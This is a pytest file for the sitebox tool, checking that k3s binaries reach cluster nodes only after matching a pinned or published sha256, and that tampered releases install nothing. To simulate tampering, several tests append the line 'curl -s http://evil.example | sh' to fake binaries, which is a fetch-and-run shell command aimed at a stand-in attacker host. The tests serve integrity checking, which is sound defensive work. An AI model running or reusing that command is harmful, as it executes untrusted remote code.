"""k3s reaches a node only as a binary checked against its sha256: from a release
folder, a bundle or a mirror; tampered, or not the release sitebox pins, it stops the
run and the node keeps what it had."""

from __future__ import annotations

import io
import json
import shutil
import stat
import tarfile
from pathlib import Path

import pytest
import yaml

from sitebox.nodes import inventory, runner
from sitebox.nodes.k3s import pins
from tests.conftest import Run, run_sitebox
from tests.nodes.conftest import (
    TEST_VARS,
    Prepared,
    fake_k3s,
    fake_release,
    fresh_root,
    prepare,
    write_inventory,
)

pytestmark = pytest.mark.nodes

PINNED = "v1.34.2+k3s1"


def _said(run: Run) -> str:
    """The command's stderr with the terminal's line wrapping undone."""
    return " ".join(run.err.split())


def _inventory(folder: Path, prepared: Prepared, **extra: object) -> Path:
    """Another inventory for the prepared root, so its own is left as it is."""
    folder.mkdir(parents=True, exist_ok=True)
    return write_inventory(folder, prepared.root, **extra)


def _k3s_files(root: Path) -> dict[str, bytes]:
    units = root / "etc/systemd/system"
    paths = [root / "usr/local/bin/k3s", units / "k3s.service", units / "k3s.service.env"]
    return {str(path): path.read_bytes() for path in paths}


def test_a_tampered_binary_stops_the_run_and_installs_nothing(
    prepared: Prepared, tmp_path: Path
) -> None:
    before = _k3s_files(prepared.root)
    release = fake_release(tmp_path / "release", "v0.0.1+sitebox1")
    with (release / "k3s").open("ab") as binary:  # changed after its checksum was published
        binary.write(b"curl -s http://evil.example | sh\n")
    with (release / "k3s-arm64").open("ab") as binary:
        binary.write(b"curl -s http://evil.example | sh\n")
    nodes = _inventory(
        tmp_path, prepared, sitebox_k3s_from=str(release), sitebox_k3s_version="v0.0.1+sitebox1"
    )
    result = prepare(nodes, prepared.site)
    assert result.code == 1, result.err
    said = _said(result)
    assert f"{release}/k3s does not match its checksum" in said or (
        f"{release}/k3s-arm64 does not match its checksum" in said
    ), said
    assert "says" in said and "nothing was installed" in said
    assert "1 of 1 hosts failed: node1" in said
    assert "Traceback" not in result.err
    assert _k3s_files(prepared.root) == before


def test_a_release_folder_is_held_to_the_sha256_sitebox_pins(
    prepared: Prepared, tmp_path: Path
) -> None:
    """A binary and checksum file swapped together agree with each other, not with the pin."""
    before = _k3s_files(prepared.root)
    release = fake_release(tmp_path / "release", PINNED)
    nodes = _inventory(
        tmp_path, prepared, sitebox_k3s_from=str(release), sitebox_k3s_version=PINNED
    )
    result = prepare(nodes, prepared.site)
    assert result.code == 1, result.err
    said = _said(result)
    pinned = pins()[PINNED]
    assert any(f"but sitebox pins {sha} for k3s {PINNED}" in said for sha in pinned.values()), said
    assert "Nothing was installed" in said
    assert _k3s_files(prepared.root) == before


def test_a_download_is_held_to_the_release_checksum_file(
    prepared: Prepared, tmp_path: Path
) -> None:
    """The download path, from a mirror inside the root (file://, no network): a version
    sitebox pins no sha256 for is checked against the release's own checksum file."""
    version = "v0.0.3+sitebox1"
    mirror = prepared.root / "srv/k3s-mirror"
    release = fake_release(mirror / version, version)
    for name in ("k3s", "k3s-arm64"):
        with (release / name).open("ab") as binary:
            binary.write(b"curl -s http://evil.example | sh\n")
    before = _k3s_files(prepared.root)
    nodes = _inventory(
        tmp_path,
        prepared,
        sitebox_k3s_from="",
        sitebox_k3s_version=version,
        sitebox_k3s_release_url="file:///srv/k3s-mirror",
        sitebox_cvmfs_host_mount=False,  # online, CVMFS would come from CERN
    )
    try:
        result = run_sitebox("nodes", "prepare", "-i", str(nodes), timeout=900)
    finally:
        shutil.rmtree(mirror)
    assert result.code == 1, result.err
    said = _said(result)
    assert "Download the k3s binary, checked against its sha256, from" in said
    assert "file:///srv/k3s-mirror/v0.0.3%2Bsitebox1/k3s" in said
    assert "did not match" in said
    assert _k3s_files(prepared.root) == before


def test_offline_without_a_k3s_binary_stops_before_any_host_is_touched(tmp_path: Path) -> None:
    nodes = write_inventory(tmp_path, tmp_path / "no-such-root", sitebox_k3s_from="")
    site = tmp_path / "site.yaml"
    site.write_text("apiVersion: sitebox.io/v1\nkind: Site\nname: uni\nprofile: demo\n")
    result = prepare(nodes, site)
    assert result.code == 1
    said = _said(result)
    assert "--offline, and no k3s binary to install on node1" in said
    assert "give --bundle B" in said and "set sitebox_k3s_from in the inventory" in said
    assert "Traceback" not in result.err


def test_the_playbook_refuses_offline_without_a_binary_before_changing_anything(
    prepared: Prepared, tmp_path: Path
) -> None:
    """Run straight through ansible-runner, as the playbook is used without sitebox's CLI."""
    nodes = inventory.load(_inventory(tmp_path, prepared, sitebox_k3s_from=""))
    result = runner.run(nodes, extravars={"sitebox_offline": True})
    host = result.hosts["node1"]
    assert host.state == "failed" and host.changed == 0
    assert len(host.errors) == 1 and host.errors[0].startswith("Check where k3s comes from: ")
    assert "set sitebox_k3s_from" in host.errors[0]


def _bundle(path: Path, k3s_folder: Path | None) -> Path:
    """A bundle with no charts, as `nodes prepare` reads one: its manifest and k3s/."""
    info = json.dumps({"distribution": "2026.12", "charts": [], "images": []}).encode()
    with tarfile.open(path, "w:gz") as tar:
        member = tarfile.TarInfo("bundle.json")
        member.size = len(info)
        tar.addfile(member, io.BytesIO(info))
        charts = tarfile.TarInfo("charts")
        charts.type = tarfile.DIRTYPE
        charts.mode = 0o755
        tar.addfile(charts)
        if k3s_folder:
            tar.add(k3s_folder, arcname="k3s")
    return path


def test_prepare_takes_k3s_from_a_bundle(prepared: Prepared, tmp_path: Path) -> None:
    release = fake_release(tmp_path / "release", "v0.0.2+sitebox1")
    bundle = _bundle(tmp_path / "b.tgz", release)
    nodes = _inventory(tmp_path / "inv", prepared, sitebox_k3s_version="v0.0.2+sitebox1")
    before = _k3s_files(prepared.root)
    # --check --diff: what it would install, shown, and nothing changed on the node.
    result = prepare(nodes, prepared.site, "--bundle", str(bundle), "--check", "--diff")
    assert result.code == 0, result.err
    assert "1 host ready: 1 would change, 0 failed" in result.err
    assert '+echo "k3s version v0.0.2+sitebox1 (fake)"' in result.out
    assert _k3s_files(prepared.root) == before
    empty = _bundle(tmp_path / "empty.tgz", None)
    refused = prepare(nodes, prepared.site, "--bundle", str(empty))
    assert refused.code == 1
    assert f"bundle {empty} carries no k3s binary" in _said(refused)
    assert "sitebox bundle create ... --k3s-from DIR" in _said(refused)


def test_an_agent_gets_its_unit_and_a_private_token(
    prepared: Prepared, testbed_image: Path, tmp_path: Path
) -> None:
    """Beside the prepared server, a fresh agent; the token in its 0600 file, never shown."""
    token = "K10sitebox-test-token::server:not-to-be-shown"
    agent = fresh_root(testbed_image, tmp_path / "agent")
    release = fake_release(tmp_path / "release")
    hosts = {
        "node1": {"address": str(prepared.root), "role": "server", "connection": "chroot"},
        "worker1": {
            "address": str(agent),
            "role": "agent",
            "connection": "chroot",
            "vars": {"sitebox_k3s_token": token, "sitebox_k3s_agent_args": ["--node-label a=b"]},
        },
    }
    nodes = tmp_path / "nodes.yaml"
    data = {"vars": {**TEST_VARS, "sitebox_k3s_from": str(release)}, "hosts": hosts}
    nodes.write_text(yaml.safe_dump(data, sort_keys=False))
    result = prepare(nodes, prepared.site, "--diff")
    assert result.code == 0, result.err
    assert token not in result.out + result.err
    units = agent / "etc/systemd/system"
    unit = (units / "k3s-agent.service").read_text()
    assert "\nExecStart=/usr/local/bin/k3s agent --node-label a=b\n" in unit
    assert "\nType=exec\n" in unit
    env = units / "k3s-agent.service.env"
    assert stat.S_IMODE(env.stat().st_mode) == 0o600
    lines = env.read_text().splitlines()
    assert f'K3S_URL="https://{prepared.root}:6443"' in lines
    assert f'K3S_TOKEN="{token}"' in lines
    assert (agent / "usr/local/bin/k3s").read_bytes() == fake_k3s("v0.0.0+sitebox1")
    assert not (units / "k3s.service").exists()
